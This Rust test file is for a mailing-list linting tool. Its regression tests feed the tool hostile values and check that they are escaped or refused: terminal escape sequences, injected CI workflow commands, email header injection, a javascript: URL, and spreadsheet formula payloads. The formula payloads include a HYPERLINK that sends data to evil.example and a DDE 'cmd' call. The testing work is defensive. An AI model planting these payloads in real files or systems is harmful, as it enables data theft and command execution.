//! Values from the list (and the draft) are the sender's data: they must not
//! drive the terminal, start a CI workflow command, run as a spreadsheet
//! formula, or change what a verdict says. Each test is named after what
//! broke.

use std::path::Path;
use std::process::Output;

use assert_cmd::Command;

const DRAFT: &str = "From: Shop <news@shop.example>\r\nTo: news@shop.example\r\n\
Subject: Hallo {{ first_name }}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
Beste {{ first_name }}, afmelden: {{ unsubscribe_url }}\r\n";

fn mailgate(dir: &Path, args: &[&str]) -> Output {
    Command::cargo_bin("mailgate")
        .unwrap()
        .current_dir(dir)
        .args(args)
        .env("NO_COLOR", "1")
        .output()
        .unwrap()
}

/// A folder with `r.csv` (the given bytes) and the draft `d.eml`.
fn case(csv: &[u8]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("r.csv"), csv).unwrap();
    std::fs::write(dir.path().join("d.eml"), DRAFT).unwrap();
    dir
}

const LINT: &[&str] = &[
    "lint",
    "--recipients",
    "r.csv",
    "--draft",
    "d.eml",
    "--product",
    "bbq",
];

fn lint(dir: &Path, more: &[&str]) -> Output {
    let args: Vec<&str> = LINT.iter().chain(more).copied().collect();
    mailgate(dir, &args)
}

/// Addresses carrying a terminal title escape, a screen clear, and a line
/// break followed by a GitHub Actions workflow command; the header names an
/// unused column with the same (column names are shown even in redacted
/// reports). Padded with ordinary rows, as in a real list: a file that is
/// mostly control characters is refused as binary.
fn hostile_csv() -> Vec<u8> {
    let mut csv = b"email,first_name,\"note\x1b]0;pwned\x07\n::warning file=x.rs::hi\"\n\
\"evil\x1b]0;pwned\x07@example.nl\",Jan,x\n\
\"clear\x1b[2J@example.nl\",Kees,x\n\
\"a\n::warning file=x.rs::owned@example.nl\",Piet,x\n"
        .to_vec();
    for i in 0..40 {
        csv.extend(format!("person{i}@example.nl,Person,x\n").bytes());
    }
    csv
}

fn assert_no_raw_controls(format: &str, stdout: &[u8]) {
    let text = String::from_utf8_lossy(stdout);
    assert!(
        !text.contains('\x1b'),
        "--format {format} passes ESC: {text}"
    );
    assert!(
        !text.contains('\x07'),
        "--format {format} passes BEL: {text}"
    );
    assert!(
        !text.lines().any(|l| l.starts_with("::warning file=x.rs")),
        "--format {format} lets a value start a workflow command: {text}"
    );
}

#[test]
fn terminal_escapes_in_list_values_reach_the_human_report_raw() {
    let dir = case(&hostile_csv());
    let output = lint(dir.path(), &[]);
    assert_eq!(output.status.code(), Some(1));
    assert_no_raw_controls("human", &output.stdout);
    let text = String::from_utf8_lossy(&output.stdout);
    assert!(text.contains("evil\\x1b]0;pwned\\x07@example.nl"), "{text}");
    assert!(text.contains("a\\n::warning file=x.rs::owned"), "{text}");
}

#[test]
fn a_line_break_in_a_value_starts_a_github_workflow_command() {
    let dir = case(&hostile_csv());
    for format in ["github", "junit"] {
        let output = lint(dir.path(), &["--format", format]);
        assert_eq!(output.status.code(), Some(1), "{format}");
        assert_no_raw_controls(format, &output.stdout);
        let text = String::from_utf8_lossy(&output.stdout);
        assert!(text.contains("note\\x1b]0;pwned"), "{format}: {text}");
    }
}

#[test]
fn formulas_in_the_list_are_written_unescaped_to_report_and_sendable_csv() {
    let dir = case(
        b"email,first_name,consent_at,consent_source\n\
          =HYPERLINK(\"http://evil.example/?\"&A2),Jan,2026-01-01,form\n\
          piet@example.nl,@SUM(A1:A9),2026-01-01,form\n\
          kees@example.nl,=1+2,2026-01-01,form\n\
          joop@example.nl,-2+3+cmd|' /C calc'!A0,2026-01-01,form\n\
          anna@example.nl,-5,2026-01-01,form\n",
    );
    let output = lint(
        dir.path(),
        &["--report-out", "report.csv", "--sendable-out", "clean.csv"],
    );
    assert_ne!(output.status.code(), Some(2), "{output:?}");
    let report = std::fs::read_to_string(dir.path().join("report.csv")).unwrap();
    assert!(
        report.contains("'=HYPERLINK("),
        "report.csv keeps a formula: {report}"
    );
    let clean = std::fs::read_to_string(dir.path().join("clean.csv")).unwrap();
    for cell in ["'@SUM(A1:A9)", "'=1+2", "'-2+3+cmd|"] {
        assert!(clean.contains(cell), "clean.csv lacks {cell}: {clean}");
    }
    // A negative number is no formula and stays as it was.
    assert!(clean.contains(",-5,"), "{clean}");
    assert!(!clean.contains("'-5"), "{clean}");
}

// ------------------------------------------------ lint and send must agree

/// A campaign folder: `campaign.toml` with `unsubscribe_url`, the draft
/// `draft`, and one recipient with consent.
fn campaign(unsubscribe_url: &str, draft: &str) -> tempfile::TempDir {
    let dir =
        case(b"email,first_name,consent_at,consent_source\njan@example.nl,Jan,2026-01-01,form\n");
    std::fs::write(dir.path().join("d.eml"), draft).unwrap();
    std::fs::write(
        dir.path().join("campaign.toml"),
        format!(
            "[campaign]\nname = \"t\"\ndraft = \"d.eml\"\nrecipients = \"r.csv\"\n\
             product = \"bbq\"\nsender = \"Shop\"\nunsubscribe_url = '{unsubscribe_url}'\n"
        ),
    )
    .unwrap();
    dir
}

/// The JSON report's diagnostics of `rule`, as (line, message).
fn diagnostics(output: &Output, rule: &str) -> Vec<(Option<u64>, String)> {
    let json: serde_json::Value = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&output.stderr)));
    json["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["rule"] == rule)
        .map(|d| {
            (
                d["line"].as_u64(),
                d["message"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

#[test]
fn unknown_filters_and_tests_passed_lint_and_failed_send() {
    let draft = "From: Shop <news@shop.example>\r\nTo: news@shop.example\r\n\
Subject: Hallo {{ first_name | titel }}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
Beste {{ first_name }}, Shop.\r\n{% if first_name is numbr %}x{% endif %}\r\n\
afmelden: {{ unsubscribe_url }}\r\n";
    let dir = campaign("https://x.example/u?e={{ email | urlencod }}", draft);
    let output = mailgate(dir.path(), &["lint", "campaign.toml", "--format", "json"]);
    assert_eq!(output.status.code(), Some(1));
    let errors = diagnostics(&output, "template-error");
    let messages: Vec<&str> = errors.iter().map(|(_, m)| m.as_str()).collect();
    assert!(
        messages.contains(&"unknown filter `titel`; did you mean `title`?"),
        "{messages:?}"
    );
    assert!(
        messages
            .iter()
            .any(|m| m.contains("unknown test `numbr`; did you mean `number`?")),
        "{messages:?}"
    );
    assert!(
        messages
            .iter()
            .any(|m| m.contains("unknown filter `urlencod`; did you mean `urlencode`?")),
        "{messages:?}"
    );
    assert!(
        errors.iter().any(|(line, _)| *line == Some(3)),
        "{errors:?}"
    );
    // Send refuses before anything is written.
    let output = mailgate(dir.path(), &["send", "campaign.toml", "--dry-run", "out"]);
    assert_eq!(output.status.code(), Some(1));
    assert!(!dir.path().join("out").join("000001.eml").exists());
}

#[test]
fn range_in_unsubscribe_url_was_an_unknown_merge_field() {
    let dir = campaign(
        "https://x.example/u?e={{ email | urlencode }}{% for i in range(1) %}{% endfor %}",
        DRAFT,
    );
    let output = mailgate(dir.path(), &["lint", "campaign.toml", "--format", "json"]);
    assert_eq!(diagnostics(&output, "unknown-merge-field"), vec![]);
    assert_eq!(diagnostics(&output, "template-error"), vec![]);
}

#[test]
fn a_javascript_unsubscribe_url_was_accepted() {
    let dir = campaign("javascript:alert(document.cookie)", DRAFT);
    let output = mailgate(dir.path(), &["lint", "campaign.toml"]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    // The value on line 7, with a caret under it.
    assert!(stderr.contains("--> campaign.toml:7:19"), "{stderr}");
    assert!(
        stderr.contains("7 | unsubscribe_url = 'javascript:alert(document.cookie)'"),
        "{stderr}"
    );
    assert!(stderr.contains("`javascript:`"), "{stderr}");
}

#[test]
fn a_bare_cr_in_the_from_passed_lint_and_stopped_send() {
    let draft = DRAFT.replace("From: Shop <", "From: \"Sh\rop\" <");
    let dir = campaign("https://x.example/u?e={{ email | urlencode }}", &draft);
    let output = mailgate(dir.path(), &["lint", "campaign.toml", "--format", "json"]);
    assert_eq!(output.status.code(), Some(1));
    let found = diagnostics(&output, "missing-sender");
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].0, Some(1));
    assert!(found[0].1.contains("Sh\\rop"), "{found:?}");
}

#[test]
fn a_row_lint_called_sendable_failed_in_send() {
    // A line break in a value the Subject shows: lint blocks that row (with
    // the column), and send --skip-blocked then sends every other row and
    // fails none.
    let dir = case(
        b"email,first_name,consent_at,consent_source\n\
          jan@example.nl,Jan,2026-01-01,form\n\
          piet@example.nl,\"Piet\r\nBcc: all@example.nl\",2026-01-01,form\n\
          kees@example.nl,Kees,2026-01-01,form\n",
    );
    let output = lint(dir.path(), &["--format", "json"]);
    assert_eq!(output.status.code(), Some(1));
    let found = diagnostics(&output, "invalid-merge-value");
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].0, Some(3));
    assert!(found[0].1.contains("first_name"), "{found:?}");
    let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(json["summary"]["sendable"], 2);

    std::fs::write(
        dir.path().join("campaign.toml"),
        "[campaign]\nname = \"t\"\ndraft = \"d.eml\"\nrecipients = \"r.csv\"\nproduct = \"bbq\"\n",
    )
    .unwrap();
    let output = mailgate(
        dir.path(),
        &[
            "send",
            "campaign.toml",
            "--dry-run",
            "out",
            "--skip-blocked",
            "--format",
            "json",
        ],
    );
    let summary: serde_json::Value = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&output.stderr)));
    assert_eq!(summary["summary"]["failed"], 0, "{summary}");
    assert_eq!(summary["summary"]["sent"], 2, "{summary}");
}

#[test]
fn a_value_that_failed_the_render_was_an_empty_merge_field_warning() {
    // The greeting only tests `first_name`; the loop is as long as `n`
    // says. Jan's n runs the render out of fuel: send fails him, so lint
    // must block him (not warn that his empty first name shows), and Piet,
    // with the same empty first name and a short loop, gets no finding.
    let dir = case(
        b"email,first_name,n,consent_at,consent_source\n\
          jan@example.nl,,100000,2026-01-01,form\n\
          piet@example.nl,,2,2026-01-01,form\n\
          kees@example.nl,Kees,3,2026-01-01,form\n",
    );
    std::fs::write(
        dir.path().join("d.eml"),
        "From: Shop <news@shop.example>\r\nTo: news@shop.example\r\nSubject: Hallo\r\n\
         Content-Type: text/plain; charset=utf-8\r\n\r\n\
         {% if first_name %}Beste {{ first_name }}{% else %}Beste klant{% endif %},\r\n\
         {% for i in range(n|int) %}{% for j in range(n|int) %}.{% endfor %}{% endfor %}\r\n\
         Shop, afmelden: {{ unsubscribe_url }}\r\n",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("campaign.toml"),
        "[campaign]\nname = \"t\"\ndraft = \"d.eml\"\nrecipients = \"r.csv\"\n\
         product = \"bbq\"\nsender = \"Shop\"\nunsubscribe_url = 'https://x.example/u'\n",
    )
    .unwrap();
    let output = mailgate(dir.path(), &["lint", "campaign.toml", "--format", "json"]);
    assert_eq!(output.status.code(), Some(1));
    assert_eq!(diagnostics(&output, "empty-merge-field"), vec![]);
    let found = diagnostics(&output, "invalid-merge-value");
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].0, Some(2));
    assert!(
        found[0]
            .1
            .contains("text/plain template cannot be rendered"),
        "{found:?}"
    );
    let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(json["summary"]["sendable"], 2);

    // Send agrees: with --skip-blocked the other two go out and none fails.
    let output = mailgate(
        dir.path(),
        &[
            "send",
            "campaign.toml",
            "--dry-run",
            "out",
            "--skip-blocked",
            "--format",
            "json",
        ],
    );
    let summary: serde_json::Value = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&output.stderr)));
    assert_eq!(summary["summary"]["failed"], 0, "{summary}");
    assert_eq!(summary["summary"]["sent"], 2, "{summary}");
}

#[test]
fn a_line_break_in_a_quoted_key_or_header_started_a_line_of_its_own_on_stderr() {
    let dir = campaign("https://x.example/u", DRAFT);
    let toml = std::fs::read_to_string(dir.path().join("campaign.toml")).unwrap();
    std::fs::write(
        dir.path().join("campaign.toml"),
        toml + "\"a\\n::warning file=x.rs::owned\\u001b[2J\" = 1\n",
    )
    .unwrap();
    let output = mailgate(dir.path(), &["lint", "campaign.toml"]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("a\\n::warning file=x.rs::owned\\x1b[2J"),
        "{stderr}"
    );
    assert!(!stderr.lines().any(|l| l.starts_with("::")), "{stderr}");

    let dir = case(b"naam,\"x\n::warning file=y::z\"\nJan,1\n");
    let output = lint(dir.path(), &[]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert!(!stderr.lines().any(|l| l.starts_with("::")), "{stderr}");
}
